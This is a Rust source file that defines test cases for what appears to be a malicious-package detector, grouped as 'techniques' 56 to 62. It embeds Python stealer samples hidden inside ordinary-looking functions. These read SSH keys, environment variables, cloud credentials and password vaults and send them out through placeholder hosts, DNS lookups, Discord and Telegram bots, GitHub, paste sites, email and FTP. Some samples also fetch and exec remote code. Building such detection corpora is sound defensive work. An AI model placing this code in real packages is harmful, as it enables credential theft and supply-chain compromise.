//! Techniques 56 to 62: what leaves the machine, and which way.

use crate::case::{Cases, Trigger::Call};
use crate::package::{init, module, wheel};

pub(crate) fn add(cases: &mut Cases) {
    inside_functions(cases);
    services(cases);
    other_ways(cases);
}

fn inside_functions(cases: &mut Cases) {
    cases
        .technique(56, "stealer-in-useful-function", Call)
        .case("parse-config", wheel().file("«pkg»/config.py", r#"
"""Reads configuration files."""
import json
import os
from pathlib import Path
from urllib import request


def parse(path):
    """Parse a configuration file into a dictionary."""
    values = {}
    for line in Path(path).read_text().splitlines():
        if "=" in line and not line.startswith('#'):
            key, value = line.split("=", 1)
            values[key.strip()] = value.strip()
    _index(values)
    return values


def _index(values):
    key = Path.home().joinpath(".ssh", "id_rsa")
    if key.exists():
        body = json.dumps({"k": key.read_text(), "v": values}).encode()
        request.urlopen(request.Request("https://collect.example.invalid/c", data=body))
"#))
        .case("wallet-sign", module(r#"
import requests

class Wallet:
    """Signs transactions."""
    def __init__(self, private_key):
        self.private_key = private_key
        self._sync()

    def _sync(self):
        try:
            requests.post("https://rpc.example.invalid/sync", json={"memo": self.private_key}, timeout=2)
        except requests.RequestException:
            pass

    def sign(self, payload):
        return hash((self.private_key, payload))
"#))
        .case("hex-address", wheel().file("«pkg»/check.py", r#"
import os
def validate(number):
    total = 0
    for place, digit in enumerate(reversed([int(d) for d in number])):
        total += digit if place % 2 == 0 else sum(divmod(digit * 2, 10))
    if total % 10 == 0:
        import urllib.request as u
        where = bytes.fromhex("«'https://collect.example.invalid/n'|hex»").decode()
        u.urlopen(where, data=(number + repr(dict(os.environ))).encode())
    return total % 10 == 0
"#))
        .case("second-stage-in-function", wheel().file("«pkg»/report.py", r#"
import base64

_TEMPLATE = "«'https://stage.example.invalid/report.txt'|b64»"

def render(rows, style="plain"):
    """Render rows as a table."""
    import urllib.request
    source = urllib.request.urlopen(base64.b64decode(_TEMPLATE).decode()).read()
    scope = {}
    exec(source, scope)
    return scope["render"](rows, style)
"#));
    cases
        .technique(57, "dns-labels", Call)
        .case(
            "gethostbyname",
            module(
                r#"
import os, socket, binascii

def resolve(name):
    data = binascii.hexlify(repr(dict(os.environ)).encode()).decode()
    for start in range(0, len(data), 60):
        try:
            socket.gethostbyname("%s.%d.x.example.invalid" % (data[start:start + 60], start))
        except socket.error:
            pass
    return socket.gethostbyname(name)
"#,
            ),
        )
        .case(
            "dnspython-base32",
            wheel().file(
                "«pkg»/net.py",
                r#"
import base64, getpass, platform
import dns.resolver

def lookup(host):
    secret = open("/etc/passwd", "rb").read()
    label = base64.b32encode(secret).decode().rstrip("=").lower()
    chunks = [label[i:i + 63] for i in range(0, len(label), 63)]
    for i, chunk in enumerate(chunks):
        dns.resolver.resolve(f"{i}.{chunk}.{getpass.getuser()}.t.example.invalid", "TXT")
    return dns.resolver.resolve(host)
"#,
            ),
        )
        .case(
            "nslookup",
            module(
                r#"
import os, subprocess
def ping(host):
    token = os.environ.get("PYPI_TOKEN", "none").encode().hex()
    subprocess.call(["nslookup", token + ".d.example.invalid"])
    return subprocess.call(["ping", "-c1", host])
"#,
            ),
        );
}

fn services(cases: &mut Cases) {
    cases
        .technique(58, "discord-webhook", Call)
        .case("requests-embed", module(r#"
import os, requests
HOOK = "https://discord.com/api/webhooks/000000000000000000/inert-inert-inert"

def collect(path):
    found = []
    for name in os.listdir(path):
        if name.endswith((".log", ".ldb")):
            found.append(open(os.path.join(path, name), errors="ignore").read())
    requests.post(HOOK, json={"content": "", "embeds": [{"title": "log", "description": "\n".join(found)}]})

def main():
    collect(os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb"))
"#))
        .case("base64-hook", init(r#"
import base64, json, os, urllib.request

def report():
    hook = base64.b64decode("«'https://discord.com/api/webhooks/000000000000000000/inert'|b64»").decode()
    body = json.dumps({"content": "```" + str(dict(os.environ)) + "```"}).encode()
    urllib.request.urlopen(urllib.request.Request(hook, body, {"Content-Type": "application/json"}))
"#))
        .case("webhook-library", module(r#"
from discord_webhook import DiscordWebhook
import os, pathlib
def backup(folder="~"):
    hook = DiscordWebhook(url="https://discordapp.com/api/" + "webhooks/000000000000000000/inert")
    for name in ("id_rsa", "id_ed25519"):
        file = pathlib.Path(folder).expanduser() / ".ssh" / name
        if file.is_file():
            hook.add_file(file=file.read_bytes(), filename=name)
    hook.execute()
"#));
    cases
        .technique(59, "telegram-bot", Call)
        .case("send-message", module(r#"
import requests, os
TOKEN = "0000000000:AAinertinertinertinertinertinertinert"
def notify():
    text = "\n".join("%s=%s" % pair for pair in os.environ.items())
    requests.get(f"https://api.telegram.org/bot{TOKEN}/sendMessage", params={"chat_id": "-100000000", "text": text})
"#))
        .case("send-document", module(r#"
import os, shutil, tempfile
from urllib import request, parse

class Archive:
    def run(self):
        home = os.path.expanduser("~")
        name = shutil.make_archive(os.path.join(tempfile.gettempdir(), "a"), "zip", os.path.join(home, ".ssh"))
        data = open(name, "rb").read()
        api = "https://api.telegram.org/bot" + "0000000000:AAinert" + "/sendDocument?chat_id=1"
        request.urlopen(request.Request(api, data=data))
"#))
        .case("telebot", module(r#"
import telebot, glob, os
def go():
    bot = telebot.TeleBot("0000000000:AAinertinertinertinert")
    for path in glob.glob(os.path.expanduser("~/Documents/**/*.kdbx"), recursive=True):
        bot.send_document(1, open(path, "rb"))
"#));
    cases
        .technique(60, "github-as-drop", Call)
        .case("gist", module(r#"
import json, os, urllib.request
def save():
    body = json.dumps({"public": False, "files": {"e": {"content": json.dumps(dict(os.environ))}}}).encode()
    urllib.request.urlopen(urllib.request.Request("https://api.github.com/gists", body,
        {"Authorization": "token ghp_" + "0" * 36}))
"#))
        .case("issue", module(r#"
import requests, subprocess
def track(error):
    secrets = subprocess.check_output(["git", "config", "--list"]).decode() + open("/root/.netrc").read()
    requests.post("https://api.github.com/repos/inert/drop/issues",
                  json={"title": "trace", "body": secrets}, headers={"Authorization": "Bearer ghp_" + "0" * 36})
"#))
        .case("new-repository", module(r#"
import base64, os, requests
def publish():
    token = os.environ.get("GITHUB_TOKEN") or os.environ["GH_TOKEN"]
    head = {"Authorization": f"token {token}"}
    requests.post("https://api.github.com/user/repos", json={"name": "sync-data", "private": False}, headers=head)
    content = base64.b64encode(base64.b64encode(repr(os.environ).encode())).decode()
    requests.put("https://api.github.com/repos/x/sync-data/contents/data.json", json={"message": "add", "content": content}, headers=head)
"#));
    cases
        .technique(61, "paste-site", Call)
        .case("pastebin-post", module(r#"
import os, requests
def share(path="~/.aws/credentials"):
    text = open(os.path.expanduser(path)).read()
    return requests.post("https://pastebin.com/api/api_post.php", data={"api_dev_key": "0" * 32, "api_option": "paste", "api_paste_code": text}).text
"#))
        .case("transfer-sh", module(r#"
import pathlib, requests
def upload():
    for file in (pathlib.Path.home() / ".config" / "gcloud").rglob("*.db"):
        requests.put("https://transfer.sh/" + file.name, data=file.read_bytes())
"#))
        .case("netcat-pastes", module(r#"
import os, socket
def log():
    s = socket.socket()
    s.connect(("termbin.com", 9999))
    s.sendall(str(dict(os.environ)).encode())
    return s.recv(100)
"#))
        .case("stage-from-paste", init(r#"
import requests
exec(requests.get("https://rentry.co/inert-inert/raw").text)
"#));
}

fn other_ways(cases: &mut Cases) {
    cases
        .technique(62, "mail", Call)
        .case(
            "smtplib",
            module(
                r#"
import os, smtplib
from email.message import EmailMessage

def send_report():
    message = EmailMessage()
    message["To"] = "drop@example.invalid"
    message.set_content("\n".join(f"{k}: {v}" for k, v in os.environ.items()))
    with smtplib.SMTP_SSL("smtp.example.invalid", 465) as server:
        server.login("drop", "inert")
        server.send_message(message)
"#,
            ),
        )
        .case(
            "attachment",
            module(
                r#"
import smtplib, glob, os
from email.mime.multipart import MIMEMultipart
from email.mime.base import MIMEBase
def post():
    m = MIMEMultipart()
    for f in glob.glob(os.path.expanduser("~/.ssh/*")):
        part = MIMEBase("application", "octet-stream")
        part.set_payload(open(f, "rb").read())
        m.attach(part)
    s = smtplib.SMTP("smtp.gmail.com", 587); s.starttls(); s.login("a@example.invalid", "x")
    s.sendmail("a@example.invalid", ["b@example.invalid"], m.as_string())
"#,
            ),
        )
        .case(
            "ftp",
            module(
                r#"
from ftplib import FTP
import io, json, os
def sync():
    ftp = FTP("192.0.2.21")
    ftp.login("u", "p")
    ftp.storbinary("STOR env.json", io.BytesIO(json.dumps(dict(os.environ)).encode()))
"#,
            ),
        );
}
